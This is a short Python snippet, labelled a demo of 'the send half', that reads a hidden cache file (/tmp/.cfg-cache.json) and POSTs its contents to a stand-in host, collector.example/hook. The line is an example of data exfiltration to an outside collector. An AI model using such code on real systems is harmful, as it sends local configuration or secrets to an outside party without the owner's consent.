# Sends the cache to a webhook (demo: the send half; the host is a reserved .example name).
import urllib.request

body = open("/tmp/.cfg-cache.json", "rb").read()
urllib.request.urlopen(urllib.request.Request("https://collector.example/hook", data=body, method="POST"), timeout=5)
